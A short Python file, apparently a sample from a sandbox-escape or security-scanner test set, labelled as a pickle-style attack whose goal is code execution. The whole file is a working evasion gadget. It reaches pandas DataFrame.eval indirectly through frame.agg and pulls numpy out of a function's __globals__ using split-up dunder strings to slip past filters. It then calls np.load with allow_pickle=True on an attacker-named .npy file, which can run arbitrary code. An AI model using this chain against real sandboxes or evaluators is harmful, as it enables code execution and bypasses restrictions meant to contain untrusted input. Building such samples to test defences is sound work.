# class: pickle_like
# technique: np.load(path, allow_pickle=True) called in expression text on numpy taken from a function's globals (DataFrame.eval reached as (call := frame.agg)('eval', ...))
# goal: exec
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})

def ev(expr, **names):
    return (call := frame.agg)("eval", 0, expr, local_dict=names)

u = "_" * 2

npv = ev("@v[0]." + u + "init" + u + "." + u + "globals" + u + "['np']", v=[np.vectorize])
loaded = ev("@n.load(@p, allow_pickle=True)", n=npv, p="anyplot-escape-gadget.npy")
df = pd.DataFrame({"x": [repr(loaded)]})
